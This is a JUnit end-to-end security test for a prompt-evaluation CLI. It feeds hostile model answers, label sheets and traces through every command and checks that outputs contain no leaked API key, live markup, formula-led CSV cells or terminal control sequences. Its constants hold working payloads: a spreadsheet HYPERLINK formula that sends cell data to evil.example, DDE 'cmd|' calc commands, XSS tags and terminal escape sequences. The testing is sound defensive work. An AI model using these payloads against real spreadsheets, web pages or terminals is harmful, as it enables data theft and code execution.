package dev.promptarena.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.opencsv.CSVReader;
import com.opencsv.CSVWriter;
import dev.promptarena.testing.ArenaFixture;
import dev.promptarena.testing.CliRun;
import dev.promptarena.testing.FakeOpenAiServer;
import dev.promptarena.testing.FakeOpenAiServer.Recorded;
import dev.promptarena.testing.FakeOpenAiServer.Reply;
import dev.promptarena.testing.RunFolders;
import java.io.IOException;
import java.io.StringReader;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import javax.xml.parsers.DocumentBuilderFactory;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A red-team pass over every surface the tool writes. A fake provider whose answers and judge rationales carry
 * markup, spreadsheet formulas and terminal sequences, and whose error bodies echo the API key; a golden set and
 * label sheets and production traces that carry the same. Then run, report, label, calibrate (text and --json),
 * report --labels, compare, runs and score on those folders, and every file written and every byte printed is scanned: no key anywhere, no live
 * markup in HTML or Markdown, no formula-led or control-carrying CSV cell, well-formed XML, no terminal control on
 * the terminal. Each neutralizer (HTML escaping, CSV formula prefix, terminal stripping, key redaction) is needed to pass.
 */
class HostileTextEndToEndTest {
    private static final String KEY = "sk-test-HOSTILE9fakekeyfortests0123";

    /** Leading-position spreadsheet payloads (OWASP CSV injection): each starts a cell somewhere. */
    private static final List<String> FORMULAS = List.of(
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1 tab-led",
            "\r=1+1 cr-led");

    /** Markup that must never reach a page live; each is found below by its opening tag. */
    private static final String MARKUP = "<script>alert('pa-xss')</script></textarea><svg onload=alert(3)>\"><img src=x onerror=alert(1)>";

    /** Terminal payloads: clear screen, OSC 8 hyperlink, BEL, backspace, C1 NEL and CSI, right-to-left override. */
    private static final String TERMINAL = "\u001B[2J\u001B]8;;http://evil.example\u0007click\u001B]8;;\u0007\u0007\b\u0085\u009B31m\u202Eevil";

    private static final List<String> IDS = List.of("c0", "c1", "=cmd|'/C calc'!A0<i class=pa>", "c3\u001B[31m\u202E", "c4", "c5", "c6", "c7");

    @TempDir Path dir;

    @Test
    void untrustedTextAndTheKeyAreNeutralizedOnEverySurface() throws Exception {
        Path out = Files.createDirectories(dir.resolve("out"));
        List<Path> written = new ArrayList<>(List.of(out, dir.resolve("reports")));
        List<CliRun> printed = new ArrayList<>();
        AtomicBoolean secondRun = new AtomicBoolean();
        Path run1;
        try (FakeOpenAiServer server = new FakeOpenAiServer()) {
            // The first call of all fails with a retryable 500 that echoes the key (retried: the run goes on).
            server.enqueue(new Reply("500", 500, Map.of(), errorBody("upstream said Authorization: Bearer " + KEY), 0));
            server.fallback(r -> reply(r, secondRun.get()));
            goldenSet();
            Path cfg = ArenaFixture.config(dir, "oa: {type: openai, base_url: \"" + server.baseUrl() + "\", api_key_env: TEST_KEY}",
                    "oa", "oa", "random", "");
            Map<String, String> env = Map.of("TEST_KEY", KEY, "PROMPT_ARENA_CACHE_DIR", out.resolve("cache").toString());
            CliRun first = record(printed, CliRun.of(env, "run", cfg.toString(), "--junit", out.resolve("junit.xml").toString()));
            assertTrue(List.of(0, 1, 3, 4).contains(first.exitCode()), first.out() + first.err());
            run1 = onlyRun();
            String cases = Files.readString(run1.resolve("cases.jsonl"));
            assertTrue(cases.contains("pa-xss") && cases.contains("cmd|") && cases.contains("HYPERLINK"), "the payloads reached the run");
            secondRun.set(true);
            record(printed, CliRun.of(Map.of("TEST_KEY", KEY), "run", cfg.toString()));
            Path run2 = newestRun();

            record(printed, CliRun.of("report", run1.toString()));
            CliRun label = record(printed, CliRun.of("label", run1.toString(), "--n", "6", "--out", out.resolve("sheet.csv").toString(),
                    "--html", out.resolve("sheet.html").toString()));
            assertEquals(0, label.exitCode(), label.out() + label.err());
            // A filled sheet is read back whatever its ids hold (the sheet has them neutralized: SheetIds maps them back).
            Path filled = fill(out.resolve("sheet.csv"));
            for (String[] json : List.of(new String[0], new String[] {"--json"})) {
                CliRun calibrated = record(printed, CliRun.of(concat(List.of("calibrate", run1.toString(), "--labels", filled.toString()), json)));
                assertTrue(List.of(0, 1).contains(calibrated.exitCode()), calibrated.out() + calibrated.err());
            }
            CliRun withSheet = record(printed, CliRun.of("report", run1.toString(), "--labels", filled.toString()));
            assertTrue(withSheet.out().contains("human-corrected"), withSheet.out() + withSheet.err());
            // A plain labels file whose unknown id is named in warnings, on the terminal and in --json.
            Path plain = plainLabels();
            for (String[] json : List.of(new String[0], new String[] {"--json"})) {
                CliRun calibrated = record(printed, CliRun.of(concat(List.of("calibrate", run1.toString(), "--labels", plain.toString()), json)));
                assertTrue(List.of(0, 1).contains(calibrated.exitCode()), calibrated.out() + calibrated.err());
                assertTrue(calibrated.out().contains("HYPERLINK"), "the unknown id is named: " + calibrated.out());
            }
            Path reported = Files.createDirectories(out.resolve("reported-with-labels"));
            record(printed, CliRun.of("report", run1.toString(), "--labels", plain.toString(), "--junit", reported.resolve("junit.xml").toString()));
            CliRun bad = record(printed, CliRun.of("calibrate", run1.toString(), "--labels", badLabels().toString()));
            assertEquals(2, bad.exitCode(), bad.out() + bad.err());
            assertTrue(bad.err().contains("pa-xss"), "the error quotes the label: " + bad.err());
            CliRun compared = record(printed, CliRun.of("compare", run1.toString(), run2.toString(), "--out", out.resolve("compare").toString()));
            assertTrue(List.of(0, 1).contains(compared.exitCode()), compared.out() + compared.err());
            assertTrue(compared.out().contains("flipped"), compared.out());
            assertEquals(0, record(printed, CliRun.of("runs", dir.resolve("reports").toString())).exitCode());
            // The online judge over production traces whose ids, requests and outputs are hostile.
            CliRun scored = record(printed, CliRun.of(env, "score", traces().toString(), "--judge", cfg.toString(), "--sample", "1", "--seed", "1",
                    "--out", out.resolve("score").toString()));
            assertTrue(List.of(0, 3).contains(scored.exitCode()), scored.out() + scored.err());
        }

        List<String> problems = new ArrayList<>();
        for (Path root : written) {
            List<Path> files;
            try (Stream<Path> s = Files.walk(root)) { files = s.filter(Files::isRegularFile).toList(); }
            for (Path f : files) problems.addAll(scanFile(f));
        }
        for (CliRun r : printed) {
            problems.addAll(scanTerminal("stdout", r.out()));
            problems.addAll(scanTerminal("stderr", r.err()));
        }
        assertEquals(List.of(), problems);
        // The payloads reached the written surfaces, neutralized rather than absent.
        assertTrue(Files.readString(run1.resolve("cases.csv")).contains("'=HYPERLINK"), "cases.csv holds the formula, quoted");
        assertTrue(Files.readString(run1.resolve("report.html")).contains("\\u003csvg onload"), "report.html holds the markup as text");
        assertTrue(Files.readString(out.resolve("sheet.html")).contains("&lt;svg onload"), "the label page holds the markup as text");
        assertTrue(Files.readString(run1.resolve("cases.jsonl")).contains("[REDACTED]"), "the echoed key was redacted in the error text");
        try (Stream<Path> s = Files.walk(out.resolve("score"))) {
            List<String> names = s.filter(f -> f.toString().matches(".*\\.(html|csv|md)$")).map(f -> f.getFileName().toString()).toList();
            assertTrue(names.size() >= 2, "score wrote its reports: " + names);
        }
    }

    /** Generators: markup and terminal sequences from A, a formula-led answer from B; the judge's reason a formula too. */
    private static Reply reply(Recorded r, boolean second) {
        String model = r.json().path("model").asText();
        int caseNo = caseNumber(r.body());
        if (model.equals("model-a")) return okWithLoneSurrogate(r, MARKUP + " " + TERMINAL + " case " + caseNo);
        if (model.equals("model-b")) {
            if (caseNo == 5) {
                // A non-retryable error whose body echoes the key, with markup and terminal sequences in it.
                return new Reply("error", 400, Map.of(), errorBody("Incorrect API key provided: " + KEY + ". " + MARKUP + TERMINAL), 0);
            }
            return Reply.ok(FORMULAS.get(caseNo % FORMULAS.size()) + " " + MARKUP + TERMINAL);
        }
        if (r.body().contains("TRACE-")) {
            // the online judge scores one output: a hostile reason beside the scores
            ObjectNode scored = new ObjectMapper().createObjectNode();
            scored.putObject("scores").put("Clarity", 2 + caseNo % 3).put("Policy citation", 3);
            return Reply.ok(scored.put("reason", FORMULAS.get(0) + MARKUP + TERMINAL).toString());
        }
        String winner = second ? (caseNo % 2 == 0 ? "A" : "B") : (caseNo % 3 == 0 ? "A" : "B");
        String reason = FORMULAS.get((caseNo + 1) % FORMULAS.size()) + " " + MARKUP + TERMINAL;
        ObjectNode verdict = new ObjectMapper().createObjectNode().put("winner", winner);
        verdict.putObject("scores").<ObjectNode>set("A", new ObjectMapper().createObjectNode().put("Clarity", 2).put("Policy citation", 3))
                .set("B", new ObjectMapper().createObjectNode().put("Clarity", 4).put("Policy citation", 5));
        verdict.put("reason", reason);
        return Reply.ok(verdict.toString());
    }

    private static final Pattern CASE = Pattern.compile("waited (\\d+) days");

    private static int caseNumber(String body) {
        Matcher m = CASE.matcher(body);
        return m.find() ? Integer.parseInt(m.group(1)) : -1;
    }

    /** A chat completion whose content ends in a lone high surrogate, written as the JSON escape JSON allows. */
    private static Reply okWithLoneSurrogate(Recorded r, String content) {
        String body = "{\"id\":\"chatcmpl-x\",\"object\":\"chat.completion\",\"model\":\"" + r.json().path("model").asText()
                + "\",\"choices\":[{\"index\":0,\"message\":{\"role\":\"assistant\",\"content\":"
                + new ObjectMapper().createObjectNode().textNode(content).toString().replaceAll("\"$", "\\\\ud800\"")
                + "},\"finish_reason\":\"stop\"}],\"usage\":{\"prompt_tokens\":11,\"completion_tokens\":7,\"total_tokens\":18}}";
        return new Reply("ok", 200, Map.of(), body, 0);
    }

    private static String errorBody(String message) {
        ObjectNode root = new ObjectMapper().createObjectNode();
        root.putObject("error").put("message", message).put("type", "invalid_request_error");
        return root.toString();
    }

    private void goldenSet() throws IOException {
        ObjectMapper json = new ObjectMapper();
        List<String> lines = new ArrayList<>();
        for (int i = 0; i < IDS.size(); i++) {
            ObjectNode c = json.createObjectNode().put("id", IDS.get(i)).put("customer_name", "<b onmouseover=alert(2)>Ana</b>" + TERMINAL)
                    .put("message", FORMULAS.get(i % FORMULAS.size()) + " I waited " + i + " days " + MARKUP)
                    .put("context", FORMULAS.get((i + 2) % FORMULAS.size()) + " policy S-1 " + MARKUP + TERMINAL)
                    .put("reference", FORMULAS.get((i + 3) % FORMULAS.size()) + " " + MARKUP + TERMINAL);
            c.putObject("tags").put("category", i % 2 == 0 ? "=HYPERLINK(\"http://evil.example\")" : "<img src=x onerror=alert(4)>");
            lines.add(c.toString());
        }
        Files.write(dir.resolve("golden.jsonl"), lines);
        Files.writeString(dir.resolve("rubric.yaml"), ArenaFixture.RUBRIC);
    }

    /** Production traces for score: hostile ids (one formula-led, one with terminal sequences), requests and outputs. */
    private Path traces() throws IOException {
        ObjectMapper json = new ObjectMapper();
        List<String> lines = new ArrayList<>();
        for (int i = 0; i < 6; i++) {
            lines.add(json.createObjectNode().put("trace_id", i == 0 ? "=tr0" + MARKUP : i == 1 ? "tr1" + TERMINAL : "tr" + i)
                    .put("timestamp", "2026-05-0" + (1 + i % 2) + "T0" + i + ":00:00Z")
                    .put("request", FORMULAS.get(i % FORMULAS.size()) + " TRACE-" + i + " I waited " + i + " days " + MARKUP + TERMINAL)
                    .put("context", MARKUP + TERMINAL).put("output", FORMULAS.get((i + 1) % FORMULAS.size()) + MARKUP + TERMINAL).toString());
        }
        Path p = dir.resolve("traces.jsonl");
        Files.write(p, lines);
        return p;
    }

    /** The label sheet with every row labelled, and a labeller whose name is a formula, markup and terminal sequences. */
    private Path fill(Path sheet) throws Exception {
        List<String[]> rows;
        try (CSVReader r = new CSVReader(Files.newBufferedReader(sheet))) { rows = r.readAll(); }
        List<String> header = List.of(rows.get(0));
        int label = header.indexOf("label"), labeler = header.indexOf("labeler");
        for (int i = 1; i < rows.size(); i++) {
            rows.get(i)[label] = i % 2 == 0 ? "1" : "2";
            rows.get(i)[labeler] = "=HYPERLINK(\"http://evil.example\")" + MARKUP + TERMINAL;
        }
        Path filled = dir.resolve("filled.csv");
        StringWriter w = new StringWriter();
        try (CSVWriter csv = new CSVWriter(w)) { csv.writeAll(rows); }
        Files.writeString(filled, w.toString());
        return filled;
    }

    /** A plain labels file: the run's ids, plus ids no case has (named in a warning) that carry every payload. */
    private Path plainLabels() throws IOException {
        StringWriter w = new StringWriter();
        try (CSVWriter csv = new CSVWriter(w)) {
            csv.writeNext(new String[] {"case_id", "label", "labeler"});
            for (int i = 0; i < IDS.size(); i++) csv.writeNext(new String[] {IDS.get(i), i % 2 == 0 ? "A" : "B", "@SUM(1)" + MARKUP + TERMINAL});
            csv.writeNext(new String[] {"=HYPERLINK(\"http://evil.example\")" + MARKUP + TERMINAL, "B", "x"});
        }
        Path p = dir.resolve("plain-labels.csv");
        Files.writeString(p, w.toString());
        return p;
    }

    /** A labels file whose label is hostile: the error message quotes it. */
    private Path badLabels() throws IOException {
        Path p = dir.resolve("bad-labels.csv");
        Files.writeString(p, "case_id,label\nc0,\"" + MARKUP.replace("\"", "\"\"") + TERMINAL + "\"\n");
        return p;
    }

    private static String[] concat(List<String> head, String[] tail) {
        List<String> all = new ArrayList<>(head);
        all.addAll(List.of(tail));
        return all.toArray(String[]::new);
    }

    private static CliRun record(List<CliRun> printed, CliRun run) {
        printed.add(run);
        return run;
    }

    // ---------------------------------------------------------------------------------------------- the scans

    /** Opening tags of the payloads: never raw in a page or a Markdown file (the tool's own tags are none of these). */
    private static final List<String> LIVE_MARKUP = List.of("<script>alert", "<svg onload", "<img src=x", "<b onmouseover", "<i class=pa>");
    private static final Pattern TERMINAL_CONTROL = Pattern.compile("[\\p{Cc}&&[^\\t\\n]]|[\u0080-\u009F]|[\u202A-\u202E\u2066-\u2069]");
    private static final Pattern FILE_CONTROL = Pattern.compile("[\\p{Cc}&&[^\\t\\n\\r]]|[\u0080-\u009F]|[\u202A-\u202E\u2066-\u2069]");
    private static final Pattern NUMBER = Pattern.compile("[-+]?(\\d+(\\.\\d*)?|\\.\\d+)([eE][-+]?\\d+)?");

    private static List<String> scanFile(Path f) throws Exception {
        List<String> problems = new ArrayList<>();
        String name = f.getFileName().toString();
        String latin1 = Files.readString(f, StandardCharsets.ISO_8859_1);
        if (latin1.contains(KEY)) problems.add(f + ": holds the API key");
        if (name.endsWith(".gz") || name.endsWith(".bin")) return problems;
        String text = new String(Files.readAllBytes(f), StandardCharsets.UTF_8);
        if (name.endsWith(".html") || name.endsWith(".md")) {
            for (String tag : LIVE_MARKUP) if (text.contains(tag)) problems.add(f + ": live markup " + tag);
            if (FILE_CONTROL.matcher(text).find()) problems.add(f + ": raw control character " + firstControl(text));
        }
        if (name.endsWith(".csv")) {
            try (CSVReader r = new CSVReader(new StringReader(text))) {
                int line = 0;
                for (String[] row : r.readAll()) {
                    line++;
                    for (String cell : row) {
                        if (formulaLed(cell)) problems.add(f + " row " + line + ": formula-led cell " + printable(cell));
                        if (FILE_CONTROL.matcher(cell).find()) problems.add(f + " row " + line + ": control character in " + printable(cell));
                    }
                }
            }
        }
        if (name.endsWith(".xml")) {
            try {
                DocumentBuilderFactory.newInstance().newDocumentBuilder().parse(f.toFile());
            } catch (Exception e) {
                problems.add(f + ": not well-formed XML: " + e.getMessage());
            }
        }
        return problems;
    }

    private static boolean formulaLed(String cell) {
        if (cell.isEmpty()) return false;
        char c = cell.charAt(0);
        return (c == '=' || c == '+' || c == '-' || c == '@' || c == '\t' || c == '\r') && !NUMBER.matcher(cell).matches();
    }

    private static List<String> scanTerminal(String stream, String text) {
        List<String> problems = new ArrayList<>();
        if (text.contains(KEY)) problems.add(stream + ": holds the API key: " + printable(text));
        Matcher m = TERMINAL_CONTROL.matcher(text);
        if (m.find()) {
            int from = Math.max(0, m.start() - 60);
            problems.add(stream + ": control character " + firstControl(text) + " in ..." + printable(text.substring(from, Math.min(text.length(), m.end() + 20))));
        }
        return problems;
    }

    private static String firstControl(String text) {
        Matcher m = FILE_CONTROL.matcher(text);
        return m.find() ? String.format("U+%04X", (int) text.charAt(m.start())) : "";
    }

    private static String printable(String s) {
        StringBuilder sb = new StringBuilder();
        for (char c : s.toCharArray()) sb.append(c < 0x20 || (c >= 0x7F && c <= 0x9F) || (c >= 0x202A && c <= 0x202E) ? String.format("\\u%04X", (int) c) : String.valueOf(c));
        return sb.length() > 200 ? sb.substring(0, 200) + "..." : sb.toString();
    }

    private Path onlyRun() throws IOException {
        try (Stream<Path> s = RunFolders.list(dir.resolve("reports"))) { return s.sorted().toList().get(0); }
    }

    private Path newestRun() throws IOException {
        try (Stream<Path> s = RunFolders.list(dir.resolve("reports"))) {
            List<Path> runs = s.sorted().toList();
            return runs.get(runs.size() - 1);
        }
    }
}
